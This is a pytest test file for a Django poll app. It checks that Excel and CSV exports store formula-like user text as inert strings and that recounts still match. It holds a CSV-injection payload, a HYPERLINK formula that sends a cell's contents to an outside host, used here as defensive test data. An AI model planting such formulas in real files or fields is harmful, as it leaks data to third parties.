"""A poll's downloads write people's text as text: names, homes, groups, the question and the
options come back from the .xlsx as string cells and from the ballot file behind a "'"."""

import csv
import hashlib
import io
import json
import subprocess
import sys
from pathlib import Path

import pytest
from django.core.management import call_command
from django.urls import reverse
from openpyxl import load_workbook

from roundtable.audit.models import Event
from roundtable.people.models import Relation
from roundtable.people.tests.factories import ResidencyFactory
from roundtable.places.tests.factories import HomeFactory, UnitFactory
from roundtable.votes import actions
from roundtable.votes.models import Method

from .conftest import make_poll, person

LEAK = '=HYPERLINK("http://x.cn/?leak="&A1,"click")'
FORMULAS = [LEAK, "+1", "-1+1", "@SUM(1)"]


@pytest.fixture
def closed(community_worker, compound, building):
    """A closed open-ballot poll of 1栋 (its file shows each group as it is) whose compound,
    voters, rooms, question and options read as formulas."""
    compound.name = LEAK
    compound.save()
    unit = UnitFactory(building=building, name="=1+1")
    voters = []
    for i, text in enumerate(FORMULAS):
        user = person(name=text)
        ResidencyFactory(
            user=user, home=HomeFactory(unit=unit, room=f"+{i}"), relation=Relation.OWNER
        )
        voters.append(user)
    options = [{"title": text} for text in FORMULAS]
    fields = {"question": LEAK, "method": Method.SINGLE, "options": options, "secret": False}
    draft = make_poll(community_worker, building, **fields)
    poll = actions.open_poll(draft, by=community_worker)
    for user, option in zip(voters, poll.options.all(), strict=True):
        actions.cast_ballot(poll, by=user, choice=option.pk)
    return actions.close_poll(poll, by=community_worker, reason="测试")


def _sheet_cells(client, name, poll):
    response = client.get(reverse(f"votes:{name}", args=[poll.pk]))
    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(response.content)).worksheets[0]
    return [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]


@pytest.mark.parametrize("name", ["electorate", "result_xlsx"])
def test_formula_like_text_comes_back_from_the_poll_sheets_as_string_cells(
    client, community_worker, closed, name
):
    client.force_login(community_worker)
    cells = _sheet_cells(client, name, closed)
    texts = {cell.value: cell.data_type for cell in cells if isinstance(cell.value, str)}
    assert set(FORMULAS) <= set(texts)
    assert {cell.data_type for cell in cells} <= {"s", "n", "d"}  # no formula, no error value


def test_the_electorate_sheet_keeps_areas_and_times_as_numbers_and_dates(
    client, community_worker, closed
):
    client.force_login(community_worker)
    response = client.get(reverse("votes:electorate", args=[closed.pk]))
    rows = list(load_workbook(io.BytesIO(response.content)).worksheets[0].iter_rows(min_row=2))
    voted = [row for row in rows if row[1].value in FORMULAS]
    assert len(voted) == len(FORMULAS)
    assert {row[0].data_type for row in voted} == {"n"}  # 序号
    assert {row[10].data_type for row in voted} == {"d"}  # 投票时间
    assert {row[5].value for row in voted} == {LEAK}  # 分组: the compound, as text


def test_the_ballot_file_puts_a_quote_before_formula_like_groups_and_still_recounts(
    client, closed, tmp_path
):
    response = client.get(reverse("votes:ballots_csv", args=["lf", closed.pk]))
    text = response.content.decode()
    rows = list(csv.DictReader(line for line in text.splitlines() if not line.startswith("#")))
    assert {row["group"] for row in rows} == {"'" + LEAK}
    cells = [cell for row in rows for cell in row.values()]
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in cells)
    path = tmp_path / "ballots.csv"
    path.write_bytes(response.content)
    out = io.StringIO()
    call_command("recount", str(path), stdout=out)
    closed.refresh_from_db()
    assert json.loads(out.getvalue()) == closed.result
    assert LEAK in closed.result["groups"]
    published = Event.objects.get(action="votes.poll_closed").details["ballot_file_sha256"]
    assert hashlib.sha256(response.content).hexdigest() == published


def test_the_short_script_reads_a_quoted_group_back_as_it_was(client, closed, tmp_path):
    path = tmp_path / "ballots.csv"
    path.write_bytes(client.get(reverse("votes:ballots_csv", args=["lf", closed.pk])).content)
    script = Path(__file__).resolve().parents[3] / "static" / "votes" / "recount_ballots.py"
    out = subprocess.run(
        [sys.executable, str(script), str(path)], capture_output=True, text=True, check=True
    ).stdout
    assert f"by group: {{{LEAK!r}: {len(FORMULAS)}}}" in out
